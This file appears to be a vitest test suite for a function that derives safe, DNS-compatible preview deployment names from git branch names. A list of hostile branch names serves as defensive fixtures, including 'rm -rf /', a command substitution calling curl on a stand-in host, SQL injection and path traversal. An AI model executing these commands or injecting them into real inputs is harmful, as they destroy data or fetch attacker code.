import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { identifierPattern } from '../../../functions/contract/identifiers.ts';
import { previewNameOf } from '../../../scripts/preview/preview-name.ts';

const hostile = [
  'x; rm -rf /',
  '$(curl evil.example)',
  '`id`',
  '-x --name=production',
  '../../production',
  'production',
  'a"}],"branch":{"name":"main"}',
  'preview-1.default.course.content_nodes',
  "'; drop table queries; --",
  'feature/ünïcode-Zweig',
  'शाखा',
  '\u202e\u0000\n',
  'x'.repeat(1_000),
];

describe('the name of a preview', () => {
  it.each(hostile)('is harmless for %j', (branch) => {
    const name = previewNameOf(branch);
    expect(name).toMatch(/^preview-([a-z0-9]+-)*[0-9a-f]{10}$/);
    expect(name).toMatch(identifierPattern);
    // With the Worker's name it is one label of DNS.
    expect(`${name}-groundwork`.length).toBeLessThanOrEqual(63);
  });

  it('is the same for the same branch, and tells alike ones apart', () => {
    expect(previewNameOf('feature/cards')).toBe(previewNameOf('feature/cards'));
    const alike = ['feature/cards', 'feature-cards', 'Feature/cards', 'feature/cards ', 'feature/càrds'];
    expect(new Set(alike.map(previewNameOf)).size).toBe(alike.length);
  });

  it('never lets one preview’s namespaces begin with another’s', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1 }), (first, second) => {
        fc.pre(first !== second && first.trim() !== '' && second.trim() !== '');
        expect(`${previewNameOf(first)}.tenant.course`.startsWith(`${previewNameOf(second)}.`)).toBe(false);
      }),
    );
  });

  it('refuses no name at all, and one no branch has', () => {
    expect(() => previewNameOf(' ')).toThrow(RangeError);
    expect(() => previewNameOf('x'.repeat(1_001))).toThrow(RangeError);
  });
});
